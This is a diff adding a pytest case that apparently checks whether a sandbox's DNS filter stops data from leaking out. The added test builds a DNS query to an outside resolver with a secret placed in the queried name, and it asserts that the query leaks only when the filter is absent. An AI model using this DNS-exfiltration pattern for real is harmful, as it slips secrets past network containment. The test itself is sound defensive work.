@@ -285,3 +285,15 @@ def test_without_its_mechanism_the_same_succeeds(
     ):
         assert get(open_, "allowed.example") == "this is 20.0.1.1"
         assert get(open_, to, host) == there
+
+
+def test_without_the_filter_a_question_carries_a_secret_out(
+    outside: World, home: Home, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    asks = f'attempt("name", lambda: datagram("192.0.2.1", 53, question("{SECRET}.example", 1)))'
+    with node(outside, "net.names", monkeypatch) as without:
+        for made, leaves in ((home, False), (without, True)):
+            outside.asked.clear()
+            with made.client() as client, client.create(base=BASE, network=ALLOWED) as sbx:
+                tries(sbx, asks)
+            assert (f"{SECRET}.example" in outside.asked) is leaves
